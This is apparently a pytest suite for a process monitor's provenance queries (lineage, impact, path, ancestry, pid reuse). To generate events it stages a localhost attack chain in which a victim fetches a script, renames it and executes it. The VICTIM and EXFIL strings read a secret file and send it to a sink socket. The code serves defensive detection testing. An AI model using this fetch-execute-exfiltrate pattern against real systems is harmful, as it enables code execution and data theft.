"""Provenance over a real monitor's events: an attack-like run, then lineage, impact, path,
ancestry and pid reuse through the real CLI and the DuckDB index."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.monitor_harness import MONITOR, Monitor, running_monitor

PAYLOAD_SERVER = """
import socket, sys
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
print(srv.getsockname()[1], flush=True)
conn, _ = srv.accept()
conn.sendall(sys.stdin.buffer.read())
conn.close()
"""

SINK_SERVER = """
import socket, sys
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
print(srv.getsockname()[1], flush=True)
conn, _ = srv.accept()
data = b""
while chunk := conn.recv(65536):
    data += chunk
sys.stdout.buffer.write(data)
"""

# The victim: writes a file first (before any network input: impact must not reach it), then
# fetches a payload, saves it, renames it and runs it as a script.
VICTIM = """
import os, socket, sys
d, port = sys.argv[1], int(sys.argv[2])
with open(os.path.join(d, "early.txt"), "w") as f:
    f.write("written before the download")
s = socket.create_connection(("127.0.0.1", port))
payload = b""
while chunk := s.recv(65536):
    payload += chunk
s.close()
tmp = os.path.join(d, "download.part")
with open(tmp, "wb") as f:
    f.write(payload)
os.rename(tmp, os.path.join(d, "run me.sh"))
os.chmod(os.path.join(d, "run me.sh"), 0o755)
pid = os.fork()
if pid == 0:
    os.execv(os.path.join(d, "run me.sh"), ["run me.sh"])
_, status = os.waitpid(pid, 0)
sys.exit(os.waitstatus_to_exitcode(status))
"""

EXFIL = """#!/bin/sh
exec {python} -c 'import socket; s = socket.create_connection(("127.0.0.1", {port})); \
s.sendall(open("{secret}", "rb").read()); s.close()'
"""

# An unrelated process running meanwhile: reads the same secret, writes its own file.
BYSTANDER = """
import os, sys
sys.stdin.readline()  # wait until the test has checked our pid
data = open(sys.argv[1], "rb").read()
with open(sys.argv[2], "wb") as f:
    f.write(data)
"""


@dataclass
class Run:
    """What the attack-like run produced: its paths, ports and pids."""

    mon: Monitor
    db: Path
    dir: Path
    payload_port: int
    sink_port: int
    victim_pid: int
    reused_pid_ok: bool
    victim_end: str


def _start_server(code: str) -> tuple[subprocess.Popen[bytes], int]:
    proc = subprocess.Popen([sys.executable, "-c", code], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE)
    assert proc.stdout is not None
    return proc, int(proc.stdout.readline())


def _spawn_with_pid(want: int, args: list[str]) -> subprocess.Popen[bytes] | None:
    """Start `args` as pid `want` by setting the kernel's last pid first; None if another
    process took the pid in between (the host is busy: the caller retries)."""
    with open("/proc/sys/kernel/ns_last_pid", "w") as f:
        f.write(str(want - 1))
    proc = subprocess.Popen(args, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL)
    if proc.pid == want:
        return proc
    assert proc.stdin is not None
    proc.stdin.close()
    proc.kill()
    proc.wait()
    return None


def cli(run: Run, *args: str, fmt: str = "json") -> tuple[int, Any, str]:
    """Run a provenance subcommand; (exit status, parsed JSON or text, stderr)."""
    proc = subprocess.run([*MONITOR, *args, "--config", str(run.mon.config_path),
                           "--db", str(run.db), "--format", fmt],
                          capture_output=True, text=True, timeout=120)
    out = json.loads(proc.stdout) if fmt == "json" and proc.stdout else proc.stdout
    return proc.returncode, out, proc.stderr


@pytest.fixture(scope="module")
def attack(workdir: Path) -> Iterator[Run]:
    d = workdir / "attack dir"
    d.mkdir()
    secret = d / "secret.txt"
    with running_monitor(workdir / "prov") as mon:
        secret.write_text("the crown jewels\n")
        sink, sink_port = _start_server(SINK_SERVER)
        payload_srv, payload_port = _start_server(PAYLOAD_SERVER)
        script = EXFIL.format(python=sys.executable, port=sink_port, secret=secret)
        feeder = threading.Thread(target=payload_srv.communicate, args=(script.encode(),))
        feeder.start()
        victim = subprocess.Popen([sys.executable, "-c", VICTIM, str(d), str(payload_port)],
                                  stdout=subprocess.DEVNULL)
        assert victim.wait(timeout=60) == 0
        feeder.join(timeout=60)
        out, _ = sink.communicate(timeout=60)
        assert out == b"the crown jewels\n"
        # The victim's pid, reused by an unrelated process once it is gone.
        bystander = None
        for _ in range(200):
            bystander = _spawn_with_pid(victim.pid, [sys.executable, "-c", BYSTANDER,
                                                     str(secret), str(d / "bystander.out")])
            if bystander is not None:
                break
        reused = bystander is not None
        if bystander is None:  # the host never let us have the pid: run it anyway
            bystander = subprocess.Popen([sys.executable, "-c", BYSTANDER, str(secret),
                                          str(d / "bystander.out")], stdin=subprocess.PIPE,
                                         stdout=subprocess.DEVNULL)
        bystander.communicate(b"go\n", timeout=60)
        assert bystander.returncode == 0
        docs = mon.wait_for(lambda e: e["event"]["action"] == "exit"
                            and e["process"]["pid"] == bystander.pid)
        end = next(e["@timestamp"] for e in docs if e["event"]["action"] == "exit"
                   and e["process"]["pid"] == victim.pid)
    # Stopped: the queries below read a finished record (the first one indexes it).
    yield Run(mon=mon, db=workdir / "prov.duckdb", dir=d, payload_port=payload_port,
                  sink_port=sink_port, victim_pid=victim.pid, reused_pid_ok=reused,
                  victim_end=end)


def _ids(out: dict[str, Any]) -> set[str]:
    return {n["id"] for n in out["nodes"]}


def _node(out: dict[str, Any], node_id: str) -> dict[str, Any]:
    return next(n for n in out["nodes"] if n["id"] == node_id)


def _process_ids(out: dict[str, Any], executable_end: str) -> set[str]:
    return {n["id"] for n in out["nodes"] if n["kind"] == "process"
            and str(n["attrs"].get("executable", "")).endswith(executable_end)}


class TestAttackLineage:
    """Backward lineage of the exfiltration endpoint leads back to the download."""

    def test_lineage_reaches_first_connection(self, attack: Run) -> None:
        """The sink endpoint's lineage holds the script, its renamed-from name, the secret,
        the victim and the payload connection."""
        rc, out, err = cli(attack, "lineage", f"endpoint:127.0.0.1:{attack.sink_port}")
        assert rc == 0, err
        ids = _ids(out)
        d = attack.dir
        assert f"endpoint:127.0.0.1:{attack.payload_port}" in ids
        assert f"file:{d}/run me.sh" in ids
        assert f"file:{d}/download.part" in ids
        assert f"file:{d}/secret.txt" in ids
        edges = {(e["src"], e["dst"], e["action"]) for e in out["edges"]}
        assert (f"file:{d}/download.part", f"file:{d}/run me.sh", "rename") in edges
        victims = [n for n in out["nodes"] if n["kind"] == "process"
                   and n["attrs"]["pid"] == attack.victim_pid]
        assert len(victims) == 1
        assert (f"endpoint:127.0.0.1:{attack.payload_port}", victims[0]["id"], "recv") in edges
        assert "read" in err and "events" in err

    def test_lineage_excludes_the_bystander(self, attack: Run) -> None:
        """The process that reused the victim's pid is a different node and not in the
        lineage; its output file neither."""
        rc, out, _ = cli(attack, "lineage", f"endpoint:127.0.0.1:{attack.sink_port}")
        assert rc == 0
        assert f"file:{attack.dir}/bystander.out" not in _ids(out)
        same_pid = [n for n in out["nodes"] if n["kind"] == "process"
                    and n["attrs"]["pid"] == attack.victim_pid]
        assert len(same_pid) == 1

    def test_text_tree_fits_80_columns(self, attack: Run) -> None:
        """The default text answer is a tree under 80 columns naming the payload port."""
        rc, out, _ = cli(attack, "lineage", f"endpoint:127.0.0.1:{attack.sink_port}",
                         fmt="text")
        assert rc == 0
        assert f"127.0.0.1:{attack.payload_port}" in out
        assert all(len(line) < 80 for line in out.splitlines())


class TestAttackImpact:
    """Forward impact of the payload connection reaches the sink and nothing unrelated."""

    def test_impact_reaches_sink(self, attack: Run) -> None:
        """The payload endpoint's impact includes the script, the exfiltrating processes and
        the sink endpoint."""
        rc, out, err = cli(attack, "impact", f"endpoint:127.0.0.1:{attack.payload_port}")
        assert rc == 0, err
        ids = _ids(out)
        assert f"endpoint:127.0.0.1:{attack.sink_port}" in ids
        assert f"file:{attack.dir}/run me.sh" in ids

    def test_impact_respects_time_and_direction(self, attack: Run) -> None:
        """What the victim wrote before the download, the secret (only read) and the
        bystander's file are not impacted."""
        rc, out, _ = cli(attack, "impact", f"endpoint:127.0.0.1:{attack.payload_port}")
        assert rc == 0
        ids = _ids(out)
        assert f"file:{attack.dir}/early.txt" not in ids
        assert f"file:{attack.dir}/secret.txt" not in ids
        assert f"file:{attack.dir}/bystander.out" not in ids

    def test_path_between_connections(self, attack: Run) -> None:
        """`path` from the payload endpoint to the sink goes through the renamed script."""
        rc, out, _ = cli(attack, "path", f"endpoint:127.0.0.1:{attack.payload_port}",
                         f"endpoint:127.0.0.1:{attack.sink_port}")
        assert rc == 0
        ids = _ids(out)
        assert f"file:{attack.dir}/run me.sh" in ids
        assert f"file:{attack.dir}/secret.txt" not in ids  # not reachable from the payload


class TestPidReuse:
    """A pid used by two processes is two nodes; pid:N needs --at to pick one."""

    def test_pid_is_ambiguous_without_time(self, attack: Run) -> None:
        """pid:N of a reused pid is a one-line error listing both entity ids."""
        if not attack.reused_pid_ok:
            pytest.skip("the busy host never handed the victim's pid out again")
        rc, _, err = cli(attack, "ancestry", f"pid:{attack.victim_pid}", fmt="text")
        assert rc == 2
        assert "ambiguous" in err and err.count("\n") == 1
        assert "Traceback" not in err

    def test_pid_at_time_picks_the_victim(self, attack: Run) -> None:
        """With --at the victim's exit time, ancestry starts from the victim."""
        rc, out, err = cli(attack, "ancestry", f"pid:{attack.victim_pid}", "--at",
                           attack.victim_end)
        assert rc == 0, err
        root = _node(out, out["roots"][0])
        assert root["attrs"]["pid"] == attack.victim_pid
        [ex] = root["attrs"]["execs"]
        assert ex["args"][:2] == [sys.executable, "-c"] and ex["args"][-2] == str(attack.dir)
        parent = _node(out, next(e["src"] for e in out["edges"] if e["dst"] == root["id"]))
        assert parent["attrs"]["pid"] == os.getpid()  # the test process

    def test_descendants_of_victim(self, attack: Run) -> None:
        """The victim's one descendant exec'd the script, which exec'd python."""
        rc, out, _ = cli(attack, "descendants", f"pid:{attack.victim_pid}", "--at",
                         attack.victim_end)
        assert rc == 0
        kids = [n for n in out["nodes"] if n["id"] != out["roots"][0]]
        assert len(kids) == 1
        execs = [x["executable"] for x in kids[0]["attrs"]["execs"]]
        assert execs == [str(attack.dir / "run me.sh"), sys.executable]


class TestBadInput:
    """Unknown nodes, missing index and malformed lines give one line, never a traceback."""

    def test_unknown_entity(self, attack: Run) -> None:
        """An entity id no event names is exit 2 with one line."""
        rc, _, err = cli(attack, "ancestry", "process:0123456789abcdef01234567", fmt="text")
        assert rc == 2
        assert err.strip().count("\n") == 0 and "not found" in err

    def test_missing_index(self, attack: Run, tmp_path: Path) -> None:
        """--no-index on an index that does not exist names the file."""
        proc = subprocess.run([*MONITOR, "lineage", "/x", "--no-index", "--db",
                               str(tmp_path / "none.duckdb")], capture_output=True, text=True)
        assert proc.returncode == 2
        assert "none.duckdb" in proc.stderr and "Traceback" not in proc.stderr

    def test_malformed_lines_are_counted(self, attack: Run, tmp_path: Path) -> None:
        """A file with broken lines among real ones indexes the good ones and counts the rest."""
        good = attack.mon.events_file.read_bytes().splitlines()[:200]
        bad = tmp_path / "events.jsonl"
        bad.write_bytes(b"\n".join([good[0], b"{not json", *good[1:], b"[1, 2]", b"\xff\xfe"])
                        + b"\n")
        proc = subprocess.run([*MONITOR, "index", "--db", str(tmp_path / "x.duckdb"), str(bad)],
                              capture_output=True, text=True)
        assert proc.returncode == 0, proc.stderr
        assert "skipped 3 malformed" in proc.stderr
